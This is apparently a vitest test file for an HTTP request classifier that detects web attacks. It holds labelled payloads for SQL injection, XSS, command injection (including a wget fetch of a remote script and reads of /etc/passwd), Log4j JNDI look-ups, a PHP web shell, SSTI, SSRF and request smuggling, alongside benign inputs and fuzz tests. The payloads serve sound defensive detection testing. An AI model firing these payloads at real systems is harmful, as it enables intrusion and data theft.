import { array, assert, constantFrom, property, uint8Array } from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ExploitClass } from '../core/behavior.ts';
import { resolveLookups } from './classes/java.ts';
import { lowestDepth } from './classes/lfi.ts';
import { hiddenCommand, shellUnquoted, wildcardGoal } from './classes/shell-words.ts';
import { sqlShape } from './classes/sql-tokens.ts';
import { classifyRequest } from './classify.ts';

const get = (value: string): { method: string; path: string; headers: []; body: string } => ({
  method: 'GET',
  path: `/item?id=${encodeURIComponent(value)}`,
  headers: [],
  body: '',
});
const classesOf = (request: Parameters<typeof classifyRequest>[0]): string[] => [
  ...new Set(
    classifyRequest(request)
      .filter((match) => match.confidence >= 0.5)
      .map((match) => match.class),
  ),
];

const attacks: readonly (readonly [ExploitClass, string])[] = [
  ['sqli', "7' or 'x'='x"],
  ['sqli', '7 and 3>2'],
  ['sqli', '-1 UnIoN/**/AlL/**/SeLeCt 1,user(),3-- -'],
  ['sqli', "x'; drop table invoices; --"],
  ['sqli', "1' and extractvalue(1,concat(0x7e,version()))#"],
  ['sqli', "1);waitfor delay '0:0:9'--"],
  ['sqli', "admin'-- "],
  ['xss', '<ScRiPt>x()</sCrIpT>'],
  ['xss', '"><img src=q onerror=eval(name)>'],
  ['xss', '&lt;svg&#x2F;onload&equals;confirm(1)&gt;'],
  ['xss', 'jav&#x09;ascript:alert(1)'],
  ['xss', "'-confirm(document.domain)-'"],
  ['rce', ';id;'],
  ['rce', '8.8.8.8|cat${IFS}/etc/hosts'],
  ['rce', '`wget http://198.51.100.7/x.sh`'],
  ['rce', "$(c\\at /e't'c/pass??)"],
  ['rce', '() { ignored; }; /bin/touch /tmp/x'],
  ['rce', '& ping -n 5 127.0.0.1 &'],
  ['lfi', '../../../../etc/passwd'],
  ['lfi', '..%252f..%252f..%252fetc%252fshadow'],
  ['lfi', 'php://filter/convert.base64-encode/resource=index'],
  ['lfi', 'C:\\Windows\\win.ini'],
  ['php', '<?php passthru($_GET[0]); ?>'],
  ['php', 'O:9:"Something":1:{s:1:"a";i:1;}'],
  ['deserialization', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'],
  ['java', '${jndi:ldap://192.0.2.1/a}'],
  ['java', '${${lower:J}${::-n}${env:NOPE:-d}i:${lower:r}mi://192.0.2.1/a}'],
  ['java', '%{(#a=@java.lang.Runtime@getRuntime()).exec("id")}'],
  ['js', "require('child_process').exec('id')"],
  ['ssti', '{{7*7}}'],
  ['ssti', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
  ['ssrf', 'gopher://127.0.0.1:6379/_INFO'],
  ['protocol', 'x\r\nSet-Cookie: a=b'],
];

describe('attacks are recognised in their class', () => {
  it.each(attacks)('%s: %s', (exploitClass, payload) => {
    expect(classesOf(get(payload))).toContain(exploitClass);
  });

  it.each(attacks.filter(([, payload]) => !payload.includes('\r')))(
    '%s in a JSON body: %s',
    (exploitClass, payload) => {
      const body = JSON.stringify({ user: { note: payload } });
      expect(
        classesOf({ method: 'POST', path: '/api', headers: [['Content-Type', 'application/json']], body }),
      ).toContain(exploitClass);
    },
  );

  it('finds them behind padding of 60,000 characters', () => {
    for (const payload of ["' union select a,b from c", ';cat /etc/passwd', '<script>x()</script>']) {
      const body = `x=${encodeURIComponent(`${'A'.repeat(60_000)}${payload}`)}`;
      expect(classesOf({ method: 'POST', path: '/', headers: [], body }).length, payload).toBeGreaterThan(0);
    }
  });

  it.each([
    ['xxe', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'],
    ['deserialization', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x"}'],
    ['sqli', '{"user":{"$ne":null},"password":{"$gt":""}}'],
    ['js', '{"__proto__":{"admin":true}}'],
  ])('%s in a body', (exploitClass, body) => {
    expect(classesOf({ method: 'POST', path: '/', headers: [], body })).toContain(exploitClass);
  });

  it.each([
    ['lfi', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'],
    ['lfi', '/static/..%5c..%5c..%5cwindows/win.ini'],
    ['lfi', '/.git/config'],
    ['other', '/wp-config.php.bak'],
    ['sqli', '/list/1%20or%201=1/all'],
  ])('%s in a path: %s', (exploitClass, path) => {
    expect(classesOf({ method: 'GET', path, headers: [], body: '' })).toContain(exploitClass);
  });

  it('a JNDI look-up in any header', () => {
    for (const name of ['User-Agent', 'Referer', 'X-Api-Version', 'Authorization', 'Accept-Language']) {
      expect(
        classesOf({ method: 'GET', path: '/', headers: [[name, '${jndi:dns://192.0.2.1/a}']], body: '' }),
        name,
      ).toContain('java');
    }
  });

  it('request smuggling and malformed methods', () => {
    expect(
      classesOf({
        method: 'POST',
        path: '/',
        headers: [
          ['Content-Length', '4'],
          ['Transfer-Encoding', 'chunked'],
        ],
        body: '0\r\n\r\n',
      }),
    ).toContain('protocol');
    expect(classesOf({ method: '|GET', path: '/', headers: [], body: '' })).toContain('protocol');
  });
});

const harmless: readonly string[] = [
  'select a plan from the union station',
  "it's 5 o'clock and it's time to go, isn't it?",
  "Rock 'n' roll and rhythm & blues = 2 of my favourites",
  "O'Brien or O'Neill",
  "D'Artagnan and the three musketeers; like it or not",
  'drop me a line; cat pictures welcome & more',
  'how to create table in word',
  'order by phone, group by age',
  'price < 100 and size > 5',
  'if you like this, then update your profile',
  'C# or C++? (both)',
  'Tom & Jerry | best of',
  'node.js while loop tutorial',
  'time for a change; who else?',
  'alert: system maintenance (planned)',
  'java vs javascript: which one?',
  '5" x 7" frame or 8" x 10"',
  '2024-01-31 10:00:00',
  'https://www.example.com/a/b.html?x=1&y=2#z',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  '{"event":"page_view","items":[{"id":"A-1","price":"9.99"}],"ok":true}',
  '[{"a":1},{"b":"c d"}]',
  '#hashtag -- a dash; and more',
  'id,name,created_at desc',
  'first_name like surname?',
  '(see above) -> next page',
  'a/b/c/../d.png',
  '$100 {sale} 50% off!',
  'me@example.com; you@example.org',
];

const prose =
  'We migrated the shop last week and I would like to select all orders from the old table where the total is greater than zero. ' +
  "The union of both lists isn't what I need; it's rather the difference, and Bob's script (update.sh) can't do it. " +
  'Could you please have a look at the file in /var/www and tell me what is wrong? I will drop by on Monday or Tuesday.';

const pastedCode =
  'Hi all, my function does not work and I do not know why. function total(list) { let sum = 0; for (const item of list) { if (item.price > 0 && item.count >= 1) sum += item.price * item.count; } return sum; } ' +
  'The page says that the total is not a number when the list is empty or when there is one item. What should I change? Thanks for your help and for the great forum.';

describe('harmless requests are left alone', () => {
  it.each(harmless)('%s', (value) => {
    expect(classifyRequest(get(value)).filter((match) => match.confidence >= 0.5)).toEqual([]);
    const body = `comment=${encodeURIComponent(value)}`;
    expect(
      classifyRequest({ method: 'POST', path: '/comment', headers: [], body }).filter(
        (match) => match.confidence >= 0.5,
      ),
    ).toEqual([]);
  });

  it.each([
    ['prose', prose],
    ['pasted code', pastedCode],
  ])('%s in a form', (_, value) => {
    const body = new URLSearchParams({ subject: 'question', text: value }).toString();
    expect(
      classifyRequest({ method: 'POST', path: '/post', headers: [], body }).filter(
        (match) => match.confidence >= 0.5,
      ),
    ).toEqual([]);
  });

  it.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2 (KHTML, like Gecko) Version/4.0 Safari/534.28.2',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'curl/8.5.0',
    'Wget/1.21.3',
    'Java/17.0.1',
    'python-requests/2.31.0',
    'ansible-httpget',
    'Apache-HttpClient/4.5.13 (Java/11.0.20)',
  ])('agent %s', (agent) => {
    const headers = [
      ['Host', 'www.example.com'],
      ['User-Agent', agent],
      ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8'],
      ['Accept-Language', 'en-GB,en;q=0.5'],
      ['Referer', 'https://www.google.com/search?q=union+select+committee+or+trade+union'],
      [
        'Cookie',
        '_ga=GA1.2.1234567.1700000000; consent={"a":true,"b":[1,2]}; sid=s%3Aabc.def%2Bghi; theme="dark"',
      ],
      ['Sec-CH-UA', '"Chromium";v="131", "Not_A Brand";v="24"'],
      ['If-None-Match', 'W/"5f-abc"'],
    ] as const;
    expect(
      classifyRequest({ method: 'GET', path: '/shop/a%20b?page=2&sort=price', headers, body: '' }).filter(
        (match) => match.confidence >= 0.5,
      ),
    ).toEqual([]);
  });
});

describe('the readings of hidden text', () => {
  it('Log4j look-ups', () => {
    expect(resolveLookups('${${lower:j}nd${::-i}:x}')).toBe('${jndi:x}');
    expect(resolveLookups('${'.repeat(500))).toHaveLength(1000);
  });
  it('words of a shell line', () => {
    expect(shellUnquoted('c\\at${ifs}/etc/pas""swd')).toBe('cat /etc/passwd');
    expect(hiddenCommand("w'h'o'am'i")).toBe('whoami');
    expect(hiddenCommand("don't")).toBeNull();
    expect(wildcardGoal('/b?n/c?t')).toBe('/b?n/c?t');
    expect(wildcardGoal('/img/*.png')).toBeNull();
  });
  it('paths', () => {
    expect(lowestDepth('/a/../../b')).toBe(-1);
    expect(lowestDepth('/a/b/../c')).toBe(0);
    expect(lowestDepth('..\\..\\x')).toBe(-2);
  });
  it('the shape of SQL', () => {
    expect(sqlShape("1' or 'a'='a", "'").letters).toBe('sLsCqw');
    expect(sqlShape('1 union/**/select a,b from c', '')).toEqual({
      letters: 'nUSw,wFw',
      commentBetween: true,
    });
  });
});

describe('hostile input', () => {
  const pieces = [
    "'",
    '"',
    '`',
    '<',
    '>',
    '(',
    ')',
    '${',
    '{{',
    '../',
    '%25',
    '&#',
    ';',
    '|',
    '/*',
    '--',
    ' or ',
    ' union select ',
    'on',
    '=',
    'script',
    '$(',
    '\\',
    '\r\n',
    ' ',
    'a',
    '1',
    'javascript:',
    'http://',
    '@',
    '[',
    ']',
    '+',
    '!',
    '<!--',
    '<?',
    '%',
    'if ',
    'for ',
    '\u0000',
    '\u00e9',
    'sleep(',
    '*',
    '?',
  ];

  it('never throws on random bytes, whatever the part of the request', () => {
    assert(
      property(uint8Array({ maxLength: 300 }), (bytes) => {
        const text = Buffer.from(bytes).toString('latin1');
        classifyRequest({
          method: text.slice(0, 8),
          path: text,
          headers: [
            ['Cookie', text],
            [text.slice(0, 12), text],
            ['Content-Type', text.slice(0, 60)],
            ['Range', text],
          ],
          body: text,
        });
      }),
    );
  });

  it('returns sorted and bounded matches on any mixture of marks', () => {
    assert(
      property(array(constantFrom(...pieces), { maxLength: 80 }), (mixture) => {
        const matches = classifyRequest(get(mixture.join('')));
        expect(matches.length).toBeLessThanOrEqual(16);
        for (const [index, match] of matches.entries()) {
          expect(match.detail.length).toBeLessThanOrEqual(120);
          expect(match.confidence).toBeLessThanOrEqual(matches[index - 1]?.confidence ?? 1);
        }
      }),
    );
  });

  it('ends on 64 KiB of any short mixture of marks, repeated', () => {
    assert(
      property(
        array(constantFrom(...pieces, '<svg ', 'aaaaaaaaaaaaaaaaaaaaaaaa', '.constructor'), {
          minLength: 1,
          maxLength: 3,
        }),
        (unit) => {
          const text = unit.join('');
          const body = `;$(x) ' ${text.repeat(Math.ceil(65_536 / text.length))}`;
          classifyRequest({ method: 'POST', path: '/', headers: [['Content-Type', 'text/plain']], body });
        },
      ),
      { numRuns: 60 },
    );
  });

  // A pattern that is not linear needs hours for one of these: the test's own time is the bound.
  it.each(pieces)('ends on 64 KiB of %j', (piece) => {
    const value = piece.repeat(Math.ceil(65_536 / piece.length));
    classifyRequest({ method: 'POST', path: `/${piece.repeat(100)}`, headers: [], body: `x=${value}` });
    classifyRequest({ method: 'POST', path: '/', headers: [['Content-Type', 'text/plain']], body: value });
  });
});
